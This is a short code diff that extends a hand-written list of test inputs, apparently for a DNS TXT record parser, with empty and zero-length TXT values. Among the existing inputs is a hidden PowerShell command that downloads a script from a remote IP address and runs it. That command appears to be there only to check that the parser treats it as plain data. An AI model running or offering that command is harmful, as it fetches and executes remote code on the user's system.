@@ -113,7 +113,7 @@ def score(run, values):
 BY_HAND = (
     "v=spf1 -all", "TXT 11 v=spf1 -all", "TXT 5 v=spf TXT 6 1 -all", "TXT 12 v=spf1 -all", '"v=DKIM1; k=rsa; p=" "MIGfMA0"',
     '"a" payload', r"caf\195\169", r"TXT 5 caf\xc3\xa9", "  spaced  ", "a", r"\"quoted\" \\ \256", "x" * 30, "x" * 31, "x" * 510, "x" * 511, "y" * 3000,
-    "TXT 0  TXT 3 abc", "naïve домен 域名", "whoami",
+    "TXT 0  TXT 3 abc", "TXT 0", '""', '"" ""', "TXT 2 \"\"", "TXT 1  ", "naïve домен 域名", "whoami",
     "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
 )
 
